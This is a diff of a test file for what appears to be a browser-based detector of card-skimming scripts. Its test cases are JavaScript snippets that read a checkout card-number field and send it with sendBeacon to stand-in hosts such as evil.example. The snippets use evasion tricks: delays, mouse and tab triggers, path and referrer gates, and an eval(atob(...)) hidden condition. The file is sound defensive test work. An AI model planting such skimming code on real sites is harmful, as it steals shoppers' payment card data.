@@ -1,5 +1,7 @@
 import type { Detonation } from '@tillwatch/core/detection'
+import { atDepth } from '@tillwatch/testbed/depth'
 import { expect, it } from 'vitest'
+import { together } from '../together.ts'
 import { all, run, shareBrowser, withCard } from './run.ts'
 
 shareBrowser()
@@ -63,38 +65,33 @@ it('waits long enough in the page’s own time for what is put off, polled and s
 })
 
 const cardNow = "document.getElementById('ccsave_cc_number').value"
-it.each([
-  ['stay for minutes', `setTimeout(() => { ${withCard("navigator.sendBeacon('https://evil.example/', card)")} }, 120_000)`],
-  [
-    'stay for minutes, by the clock',
-    `const since = Date.now(); ${withCard("if (Date.now() - since > 240_000) navigator.sendBeacon('https://evil.example/', card)")}`,
-  ],
-  [
-    'move the mouse a lot',
-    `let moves = 0; addEventListener('mousemove', () => moves++); ${withCard("if (moves > 200) navigator.sendBeacon('https://evil.example/', card)")}`,
-  ],
-  [
-    'turn to another tab',
-    `document.addEventListener('visibilitychange', () => { const card = ${cardNow}; if (document.visibilityState === 'hidden' && card) navigator.sendBeacon('https://evil.example/', card) })`,
-  ],
-  [
-    'come back from another tab',
-    `let away = false, back = false
+/** What visitors do whom a script waits for. */
+const patient: Record<string, string> = {
+  'stay for minutes': `setTimeout(() => { ${withCard("navigator.sendBeacon('https://HOST/', card)")} }, 120_000)`,
+  'stay for minutes by the clock': `const since = Date.now(); ${withCard("if (Date.now() - since > 240_000) navigator.sendBeacon('https://HOST/', card)")}`,
+  'move the mouse a lot': `let moves = 0; addEventListener('mousemove', () => moves++); ${withCard("if (moves > 200) navigator.sendBeacon('https://HOST/', card)")}`,
+  'turn to another tab': `document.addEventListener('visibilitychange', () => { const card = ${cardNow}; if (document.visibilityState === 'hidden' && card) navigator.sendBeacon('https://HOST/', card) })`,
+  'come back from another tab': `let away = false, back = false
     document.addEventListener('visibilitychange', () => { if (document.hidden) away = true; else back = away })
-    document.addEventListener('click', () => { const card = ${cardNow}; if (back && !document.hidden && card) navigator.sendBeacon('https://evil.example/', card) })`,
-  ],
-])('sees in the first run what waits for visitors who %s', async (_what, code) => {
-  expect(all(await run(code), 'sends').map(({ what, to, gate }) => [what, to, gate])).toContainEqual(['card', 'evil.example', null])
+    document.addEventListener('click', () => { const card = ${cardNow}; if (back && !document.hidden && card) navigator.sendBeacon('https://HOST/', card) })`,
+}
+it.each(together(patient))('sees in the first run what waits for visitors who %s', async (_names, waiting) => {
+  const hostOf = (name: string) => `${name.replaceAll(' ', '-')}.example`
+  const told = await run(waiting.map(([name, code]) => `{ ${code.replaceAll('HOST', hostOf(name))} }`).join('\n'))
+  const atFirst = all(told, 'sends').filter(({ what, gate }) => what === 'card' && gate === null)
+  expect([...new Set(atFirst.map(({ to }) => to))].sort()).toEqual(waiting.map(([name]) => hostOf(name)).sort())
 })
 
-it.each([
+/** What a script asks for, the condition, and the gate it is told with. How it leads to these runs is checked in plans.test.ts. */
+const asking: [asks: string, condition: string, gate: unknown][] = [
   ['the path of a checkout as a whole', "location.pathname === '/checkout'", 'path:/checkout'],
-  ['a path that ends with it', '/\\/onepage\\/?$/.test(location.pathname)', 'path:/onepage'],
-  ['a path in a list', "['/de/kasse', '/kasse'].includes(location.pathname)", 'path:/de/kasse'],
   ['a path in hidden code', `eval(atob('${btoa("location.pathname === '/checkout'")}'))`, 'visitor:returning, path:/checkout'],
   ['a network', '/facebook\\.com/.test(document.referrer)', expect.stringContaining('referrer:facebook,')],
+  ['a path that ends with it', '/\\/onepage\\/?$/.test(location.pathname)', 'path:/onepage'],
+  ['a path in a list', "['/de/kasse', '/kasse'].includes(location.pathname)", 'path:/de/kasse'],
   ['a language', "navigator.language.startsWith('de')", expect.stringMatching(/^language:de, /)],
-])('comes by %s where the script asks for it', async (_what, condition, gate) => {
+]
+it.each(atDepth(asking.slice(0, 3), asking))('comes by %s where the script asks for it', async (_what, condition, gate) => {
   const told = await run(withCard(`if (${condition}) navigator.sendBeacon('https://evil.example/', card)`))
   expect(all(told, 'sends').map(({ what, gate }) => [what, gate])).toEqual([['card', gate]])
 })
